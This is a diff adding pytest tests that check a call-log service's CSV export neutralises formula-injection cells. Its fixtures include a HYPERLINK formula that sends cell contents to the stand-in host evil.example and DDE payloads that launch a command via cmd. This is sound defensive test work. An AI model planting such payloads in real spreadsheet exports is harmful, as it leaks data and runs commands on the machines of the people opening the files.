@@ -14,6 +14,7 @@ from inquiries.calllog import (
     encode_cursor,
     inquiry_detail,
     list_interactions,
+    spreadsheet_safe,
 )
 from inquiries.models import Caller, CallEvent, Inquiry, Interaction
 from routing.models import Handler, Offer, QueueEntry
@@ -147,6 +148,47 @@ def test_csv_has_a_header_and_every_row(svc):
     assert rows[0][0] == "interaction" and rows[0][-1] == "number"
     assert len(rows) == 31
     assert "+79161234567" not in {cell for row in rows for cell in row}
+
+
+@pytest.mark.parametrize(
+    ("cell", "exported"),
+    [
+        ('=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'),
+        ("+79161234567", "'+79161234567"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"), ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"), ("\n=1", "'\n=1"), ("\0=1", "'\0=1"),
+        ("", ""), ("browser", "browser"), ("withheld", "withheld"), ("60", "60"),
+        ("2026-11-01T12:00:00+00:00", "2026-11-01T12:00:00+00:00"), ("a=1", "a=1"),
+        ("'=1", "'=1"),
+    ],
+)  # fmt: skip
+def test_a_cell_that_starts_like_a_formula_is_exported_as_text(cell, exported):
+    assert spreadsheet_safe(cell) == exported
+
+
+def test_a_caller_address_that_is_a_formula_leaves_the_csv_as_text(svc):
+    """The carrier passes a SIP caller's ``From`` as the caller chose it: it is kept
+    as given (not E.164), and the full-number export must not hand it to a spreadsheet as a
+    formula."""
+    seed(svc, n=3)
+    planted = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
+    with svc.session_factory() as session:
+        number_hash = svc.protector.lookup_hash(planted)
+        sealed = svc.protector.seal_text(planted, associated=number_hash.encode())
+        caller = Caller(number_hash=number_hash, number_ciphertext=sealed.ciphertext,
+                        number_key_id=sealed.key_id)  # fmt: skip
+        session.add(caller)
+        session.flush()
+        inquiry = Inquiry(caller_id=caller.id, kind="other", language="en", status="new")
+        session.add(inquiry)
+        session.flush()
+        session.add(Interaction(inquiry_id=inquiry.id, provider_sid="CA" + "f" * 32,
+                                started_at=T0, status="completed", duration_s=1))  # fmt: skip
+        session.commit()
+    with svc.engine.connect() as conn:
+        rows = list(csv_rows(conn, svc.protector, CallLogFilter(), full_numbers=True))
+    assert ["'" + planted] in [row[-1:] for row in rows]
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
 
 
 def test_the_inquiry_timeline_holds_every_call_and_event(svc):
